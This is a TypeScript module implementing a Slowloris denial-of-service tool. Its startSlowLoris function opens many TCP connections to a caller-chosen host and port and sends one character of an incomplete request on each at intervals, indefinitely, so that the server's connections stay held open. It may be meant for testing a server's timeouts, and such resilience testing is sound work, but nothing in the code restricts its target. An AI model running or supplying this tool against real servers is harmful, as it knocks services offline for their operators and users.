import { connect, type Socket } from 'node:net';

/** Connections that send next to nothing, as slowly as a server may bear it. */
export interface SlowLoris {
  /** How many are still open. */
  open(): number;
  close(): void;
}

/**
 * Opens connections and sends the same text on each, a byte now and then, for ever.
 * @param wish.text such as the head of an HTTP request, or a line without its end
 */
export function startSlowLoris(wish: {
  readonly host: string;
  readonly port: number;
  readonly connections: number;
  readonly text: string;
  readonly everyMs: number;
  /** The local address they come from. */
  readonly from?: string;
}): SlowLoris {
  const { host, port, connections, text, everyMs, from } = wish;
  const sockets = new Set<Socket>();
  let at = 0;
  for (let count = 0; count < connections; count += 1) {
    const socket = connect({ host, port, noDelay: true, ...(from && { localAddress: from }) });
    sockets.add(socket);
    socket.resume();
    socket.on('error', () => {
      // Cut off, as it should be; `close` follows.
    });
    socket.on('close', () => sockets.delete(socket));
  }
  const drip = setInterval(() => {
    for (const socket of sockets) socket.write(text.charAt(at % text.length));
    at += 1;
  }, everyMs);
  return {
    open: () => sockets.size,
    close() {
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    },
  };
}
